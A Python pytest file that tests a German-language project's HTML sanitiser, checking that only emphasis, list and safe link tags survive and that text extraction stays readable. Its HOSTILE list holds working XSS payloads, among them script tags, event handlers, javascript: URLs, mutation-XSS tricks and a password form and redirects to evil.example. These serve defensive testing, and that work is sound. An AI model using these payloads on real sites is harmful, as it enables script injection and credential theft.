"""Foreign HTML may emphasise, list and link, and nothing else (ASVS 1.3.1)."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kmz.sanitising import clean_html, page_text, plain_text

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)'>x</p>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa&#09;Script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example/">x</a>',
    '<div hx-get="/konto" hx-trigger="load">x</div>',
    '<p hx-post="/x" data-hx-get="/y" class="button" id="main" style="position:fixed">x</p>',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="password"><button>Anmelden</button></form>',
    "<style>*{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<b><p onmouseover=alert(1)//<b>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><img src=x onerror=alert(1)></template>",
]
ALLOWED = re.compile(
    r"</?(?:p|b|strong|i|em|ul|ol|li)>|<br>|</a>|"
    r'<a href="(?:https?:|mailto:)[^"<>]*"(?: title="[^"]*")? rel="noopener noreferrer">'
)


def only_allowed_tags(markup: str) -> bool:
    return "<" not in ALLOWED.sub("", markup)


@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_markup_leaves_only_harmless_tags(markup: str) -> None:
    assert only_allowed_tags(clean_html(markup))


@given(st.text(alphabet="<>/\"'= abpiscrtonhef:&;#\n"))
def test_no_text_at_all_brings_another_tag_through(markup: str) -> None:
    assert only_allowed_tags(clean_html(markup))


@given(st.text(alphabet="<>/\"'= abpiscrtonhef:&;#\n"))
def test_cleaning_what_is_clean_changes_nothing(markup: str) -> None:
    once = clean_html(markup)
    assert clean_html(once) == once


def test_emphasis_lists_and_links_stay() -> None:
    markup = (
        "<p>Ein <b>Wort</b>, <em>betont</em><br>neu</p><ul><li>eins</li></ul><ol><li>zwei</li></ol>"
    )
    assert clean_html(markup) == markup
    link = clean_html('<a href="https://example.org/" title="Seite" target="_blank">hier</a>')
    assert 'href="https://example.org/"' in link
    assert 'title="Seite"' in link
    assert "target" not in link


def test_a_link_that_leads_nowhere_is_plain_text() -> None:
    assert clean_html('Bitte <a href="javascript:x">klicken</a>!') == "Bitte klicken!"


def test_plain_text_keeps_lines_and_reads_entities() -> None:
    markup = "<p>Größe &lt; 10 &amp; mehr<br>neu</p><ul><li>eins</li><li>zwei</li></ul>"
    assert plain_text(markup) == "Größe < 10 & mehr\nneu\neins\nzwei"


def test_the_text_of_a_page_stays_readable() -> None:
    row = "<tr><th>danach</th> <td>alles &amp; mehr</td></tr>"
    page = (
        f"<h2>6.\nStornierung</h2> <p>{'Wort ' * 20}</p><ul><li>eins</li></ul><table>{row}</table>"
    )
    lines = page_text(page).splitlines()
    assert lines[:2] == ["6. Stornierung", ""]
    assert max(map(len, lines)) <= 78
    assert lines[2].startswith("Wort ")
    assert lines[-3:] == ["- eins", "", "danach: alles & mehr"]
